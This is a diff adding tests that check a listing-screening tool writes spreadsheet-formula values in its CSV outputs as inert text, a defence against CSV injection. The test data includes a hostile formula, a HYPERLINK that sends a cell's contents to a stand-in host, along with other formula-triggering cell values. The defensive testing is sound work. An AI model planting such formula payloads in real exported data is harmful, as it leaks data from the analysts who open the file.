@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import html
 import json
@@ -22,6 +23,7 @@ from safetensors.torch import load_file, save_file
 from artsentry import __version__
 from artsentry.cli import EXIT_SOME_UNREADABLE, main
 from artsentry.data.images import load_image
+from artsentry.files import formula_as_text, formula_from_text
 from artsentry.inference import Predictor
 from artsentry.models.artifact import ArtifactError, read_config, update_config
 from artsentry.models.onnx import export_onnx, onnx_ready
@@ -291,6 +293,51 @@ def test_the_photos_a_run_could_not_read_are_screened_again_from_its_errors_csv(
         ["B", str(tmp_path / "pics" / "b.jpg"), "comb", "s2", 1]]
     assert retried["error"].isna().all() and retried["input_error"].str.endswith("b.jpg: file not found").all()
     assert read_evidence(again / "evidence.jsonl")[0]["sha256"] == hashlib.sha256(photos[1].read_bytes()).hexdigest()
+
+
+def test_a_sellers_formula_reaches_the_spreadsheet_as_text_and_a_retry_as_it_was(model_dir, synthetic_dataset,
+                                                                                   tmp_path):
+    """Listing tables are scraped from marketplaces, and their columns go into the CSV tables an analyst opens
+    in Excel: a title "=HYPERLINK(...)" ran there as a formula (CSV injection). A text cell a spreadsheet would
+    take for a formula is written with a leading apostrophe; numbers are not; the evidence keeps the values as
+    given, and errors.csv screened again gives them back as they were."""
+    model = tmp_path / "model"
+    shutil.copytree(model_dir, model)
+    update_config(model, threshold=0.0)  # every readable photo flagged: queue.csv holds them
+    photo = sorted((synthetic_dataset / "ivory").glob("*.jpg"))[0]
+    (tmp_path / "pics").mkdir()
+    shutil.copy(photo, tmp_path / "pics" / "a.jpg")
+    given = {"listing_id": ["@lot-1", "-2", "=3"], "image": ["pics/a.jpg", "pics/a.jpg", "pics/gone.jpg"],
+             "title": ['=HYPERLINK("http://x.test/?"&A1,"more")', "ivory tube", "+44 20 7946 0000"],
+             "price": ["-5", "-", "\t=1+1"]}
+    pd.DataFrame(given).to_csv(tmp_path / "t.csv", index=False)
+    out, again = tmp_path / "out", tmp_path / "again"
+    assert main(["-q", "screen", str(tmp_path / "t.csv"), "--out", str(out), "--model", str(model)]) == 3
+    cells = {}
+    for name in ("results.csv", "queue.csv", "listings.csv", "errors.csv"):
+        with open(out / name, newline="", encoding="utf-8") as fh:
+            cells[name] = [c for row in csv.reader(fh) for c in row]
+        assert not [c for c in cells[name] if c[:1] in ("=", "+", "@", "\t") or re.match(r"-[^\d]", c)], name
+    assert {"'@lot-1", "'=3", "'=HYPERLINK(\"http://x.test/?\"&A1,\"more\")", "-2", "-5", "-"} <= set(cells["results.csv"])
+    assert {"'=3", "'+44 20 7946 0000", "'\t=1+1"} <= set(cells["errors.csv"])
+    assert "'@lot-1" in cells["queue.csv"] and "'@lot-1" in cells["listings.csv"]
+    records = read_evidence(out / "evidence.jsonl")
+    assert [r["listing"]["title"] for r in records] == given["title"]
+    assert [r["listing_id"] for r in records] == given["listing_id"]
+    shutil.copy(photo, tmp_path / "pics" / "gone.jpg")
+    assert main(["-q", "screen", str(out / "errors.csv"), "--out", str(again), "--model", str(model)]) == 0
+    retried = read_evidence(again / "evidence.jsonl")
+    assert [(r["listing_id"], r["listing"]["title"], r["listing"]["price"]) for r in retried] == [
+        ("=3", "+44 20 7946 0000", "\t=1+1")]
+
+
+@pytest.mark.parametrize("value, written", [
+    ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("+44 20", "'+44 20"), ("-abc", "'-abc"), ("\r=1", "'\r=1"),
+    ("\tx", "'\tx"), ("  =1", "'  =1"), ("\u00a0=1", "'\u00a0=1"), ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
+    ("-5", "-5"), ("+1.5e3", "+1.5e3"), ("-.5", "-.5"), ("-", "-"), ("a=b", "a=b"), ("", ""), ("'x", "'x")])
+def test_which_cells_a_spreadsheet_would_run_are_written_as_text(value, written):
+    assert formula_as_text(value) == written
+    assert formula_from_text(written) == value
 
 
 def test_the_queue_puts_matches_first_by_their_best_match_then_flags_by_score():
